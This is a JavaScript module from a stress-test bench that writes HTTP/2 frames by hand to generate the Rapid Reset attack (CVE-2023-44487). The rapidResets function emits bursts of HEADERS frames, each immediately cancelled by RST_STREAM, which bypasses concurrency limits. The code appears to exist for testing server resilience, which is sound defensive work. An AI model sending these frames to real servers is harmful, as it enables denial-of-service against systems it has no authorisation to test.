// HTTP/2 frames written by hand (RFC 9113 §4.1), for an attack a well-behaved client library refuses to send:
// a rapid reset (HEADERS then RST_STREAM at once, CVE-2023-44487) ignores the concurrency limit.
// test/stress/h2raw.ts re-exports these for the tests (plain JS, typed by JSDoc, so the bench runs it as is).

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const CANCEL = 0x8;

/** @param {number} type @param {number} flags @param {number} streamId @param {Buffer} payload */
function frame(type, flags, streamId, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/**
 * A literal header field without indexing, its name from the static table (RFC 7541 §6.2.2).
 * @param {number} nameIndex @param {string} value
 */
function literal(nameIndex, value) {
  const v = Buffer.from(value, 'latin1');
  if (nameIndex >= 15 || v.length >= 127) throw new RangeError('kept to one-byte HPACK integers');
  return Buffer.concat([Buffer.from([nameIndex, v.length]), v]);
}

/** The client's opening: the preface and an empty SETTINGS frame. @returns {Buffer} */
export function clientPreface() {
  return Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]);
}

/**
 * `count` GETs of `path` (:method GET, :scheme https, :path, :authority) on odd stream ids from `firstId`,
 * each followed at once by its RST_STREAM (CANCEL).
 * @param {number} firstId @param {number} count @param {string} path @param {string} authority
 * @returns {Buffer}
 */
export function rapidResets(firstId, count, path, authority) {
  const block = Buffer.concat([Buffer.from([0x82, 0x87]), literal(4, path), literal(1, authority)]);
  const code = Buffer.alloc(4);
  code.writeUInt32BE(CANCEL);
  const frames = [];
  for (let i = 0, id = firstId; i < count; i++, id += 2) {
    frames.push(frame(HEADERS, END_STREAM | END_HEADERS, id, block), frame(RST_STREAM, 0, id, code));
  }
  return Buffer.concat(frames);
}
